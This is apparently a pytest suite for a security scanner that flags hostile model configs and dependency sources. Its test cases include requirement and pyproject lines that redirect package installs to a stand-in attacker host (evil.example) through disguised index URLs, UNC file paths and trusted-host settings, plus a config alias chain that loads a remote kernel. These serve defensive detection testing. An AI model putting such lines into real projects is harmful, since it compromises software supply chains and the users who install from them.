"""The table of fields in use: hostile and honest configs through the whole scan."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest

from hubclean.errors import FormatError
from hubclean.scanning.configs.asking import Place, asks
from hubclean.scanning.configs.fields_of_key import rows_of
from hubclean.scanning.configs.loader_fields import FIELDS, LIBRARIES
from hubclean.scanning.configs.project_files import project_sources
from hubclean.scanning.configs.renaming import Renaming
from hubclean.scanning.configs.requirements import foreign_sources
from hubclean.scanning.engine import scan
from hubclean.scanning.scanners.config_code import walk_config
from support.config_cases import Files, write
from support.honest_configs import BENIGN
from support.hostile_configs import HOSTILE


def named(cases: list[tuple[str, Files]]) -> list[Any]:
    return [pytest.param(files, id=f"{kind}-{number}") for number, (kind, files) in enumerate(cases)]


@pytest.mark.parametrize("files", named(HOSTILE))
def test_hostile_configs_are_exit_1(files: Files, tmp_path: Path) -> None:
    report = scan(write(tmp_path, files))
    if "Config.json" in files and (tmp_path / "config.json").samefile(tmp_path / "Config.json"):
        pytest.skip("a disk that does not tell case apart")
    assert report.exit_code == 1, report.findings


@pytest.mark.parametrize("files", named(BENIGN))
def test_honest_configs_are_exit_0(files: Files, tmp_path: Path) -> None:
    report = scan(write(tmp_path, files))
    assert report.exit_code == 0, report.findings


def asked(config: Any, name: str = "config.json") -> set[tuple[str, str]]:
    place = Place(name, renaming=Renaming.of(config))
    return {(ask.rule, ask.severity) for path, value in walk_config(config) for ask in asks(path, value, place)}


def test_padding_a_map_hides_no_name_and_costs_no_square() -> None:
    names = [f"n{number}" for number in range(20_000)]
    random.Random(0).shuffle(names)
    chain = dict(zip(names, [*names[1:], "_attn_implementation_internal"], strict=True))
    config = {"attribute_map": chain, names[0]: "someone/kernel"}
    assert ("HC-CFG-002", "critical") in asked(config)


def test_a_map_of_shapes_is_low_and_says_so() -> None:
    assert asked({"attribute_map": {"n_embd": "hidden_size"}, "n_embd": 8}) == {("HC-CFG-001", "low")}


def test_every_row_of_the_table_is_reached_by_its_own_keys() -> None:
    for row in FIELDS:
        for key in row.keys:
            assert key == "*" or row in rows_of(key.replace("*", "")), (row.library, key)
    assert {row.library for row in FIELDS} <= {*LIBRARIES, "hydra", "several"}


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (b"-i https://evil.example/simple", "foreign"),
        (b"--index-url=https://pypi.org@evil.example/simple", "foreign"),
        (b"--index-url https://pypi.org.evil.example/simple", "foreign"),
        (b"--extra-index-url \\\n   https://evil.example", "foreign"),
        (b"--find-links http://download.pytorch.org/whl", "unguarded"),
        (b"-f file:///tmp/wheels", "local"),
        (b"numpy @ file:///home/conda/feedstock_root/build_artifacts/numpy_1/work", "local"),
        (b"numpy @ file:///C:/ci/numpy_1/work", "local"),
        (b"numpy @ file:////evil.example/share/numpy.whl", "foreign"),
        (b"numpy @ file://evil.example/share/numpy.whl", "foreign"),
        (b"numpy @ file:\\\\evil.example\\share\\numpy.whl", "foreign"),
        (b"--trusted-host evil.example", "foreign"),
        (b"--trusted-host mirrors.aliyun.com", "unguarded"),
        (b"--index-url https://pypi.org\\@evil.example/simple", "foreign"),
        (b"torch @ https://evil.example/torch.whl", "foreign"),
        (b"git+ssh://git@evil.example/x", "foreign"),
        (b"git+https://github.com/huggingface/transformers", "code"),
        (b"git+http://github.com/huggingface/transformers", "foreign"),
        (b"-f https://tile-ai.github.io/whl/nightly/cu121/", "code"),
        (b"-f https://storage.googleapis.com/evil/releases.html", "foreign"),
        (b"-f https://storage.googleapis.com/jax-releases/../evil/releases.html", "foreign"),
        (b"-r https://evil.example/more.txt", "foreign"),
        ("--index-url https://evil.example".encode("utf-16"), "foreign"),
        (b"\xef\xbb\xbf--index-url https://evil.example", "foreign"),
        (b"channels:\n  - https://evil.example/channel\n", "foreign"),
    ],
)
def test_requirements_from_elsewhere(text: bytes, kind: str) -> None:
    assert [row.kind for row in foreign_sources(text)] == [kind]


@pytest.mark.parametrize(
    "text",
    [
        b"torch==2.1 # https://evil.example\n# -i https://evil.example",
        b"--index-url https://pypi.org/simple",
        b"--extra-index-url https://download.pytorch.org/whl/cu121",
        b"-f https://storage.googleapis.com/jax-releases/libtpu_releases.html",
        b"-i https://pypi.tuna.tsinghua.edu.cn/simple",
        b"numpy>=1.26; python_version < '3.13'",
        b"x @ https://files.pythonhosted.org/packages/x.whl#sha256=abc",
        b"channels:\n- https://repo.anaconda.com/pkgs/main\ndependencies:\n- pip:\n  - torch\n",
    ],
)
def test_ordinary_requirements(text: bytes) -> None:
    assert not list(foreign_sources(text))


PROJECT = b"""
[project]
name = "x"
dependencies = ["torch>=2", "y @ https://files.pythonhosted.org/y.whl"]
urls = {Homepage = "https://evil.example"}
[project.optional-dependencies]
all = ["z @ git+https://github.com/a/z"]
[tool.mypy]
plugins = "https://evil.example"
[tool.poetry.urls]
Docs = "https://evil.example"
"""


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        (PROJECT, ["code"]),
        (PROJECT + b'[[tool.uv.index]]\nurl = "https://evil.example/simple"\n', ["code", "foreign"]),
        (PROJECT + b'[tool.uv]\n"find-l\\u0069nks" = ["http://pypi.org/x"]\n', ["code", "unguarded"]),
        (PROJECT + b'[[tool.poetry.source]]\nname = "a"\nurl = "https://evil.example"\n', ["code", "foreign"]),
        (b'[build-system]\nrequires = ["a @ https://evil.example/a.whl"]\n', ["foreign"]),
        (b'[dependency-groups]\ndev = ["a @ https://evil.example/a.whl"]\n', ["foreign"]),
        (
            b'[[source]]\nurl = "https://evil.example/simple"\nverify_ssl = false\n[packages]\ntorch = "*"\n',
            ["foreign"],
        ),
        (b'[[source]]\nurl = "https://pypi.org/simple"\n[packages]\ntorch = "*"\n', []),
        (b'index-url = "https://evil.example"\n', ["foreign"]),
    ],
)
def test_what_a_project_installs_from(text: bytes, kinds: list[str]) -> None:
    assert sorted(row.kind for row in project_sources(text)) == sorted(kinds)


@pytest.mark.parametrize(
    "text", [b"a = ", b"a" + b".a" * 300 + b" = 1", b"a = " + b"[" * 5000, b"\xff = 1", b"#" * 200_000]
)
def test_a_project_file_that_cannot_be_followed_is_said_to_be_so(text: bytes) -> None:
    with pytest.raises(FormatError, match="project file"):
        list(project_sources(text))


def test_a_long_list_is_read_to_its_end() -> None:
    assert list(foreign_sources(b"\n" * 50_000 + b"-i https://evil.example"))


def test_what_installed_libraries_write_by_default_asks_for_nothing() -> None:
    """A sample; ``benchmarks/scan/default_configs.py`` goes over all of them."""
    transformers = pytest.importorskip("transformers")
    for name in ("ViTConfig", "CLIPConfig", "OneFormerConfig", "LayoutLMv2Config", "BarkConfig", "MoonshineConfig"):
        config = getattr(transformers, name)().to_dict()
        assert "attribute_map" not in config
        assert not asked(json.loads(json.dumps(config, default=str))), name
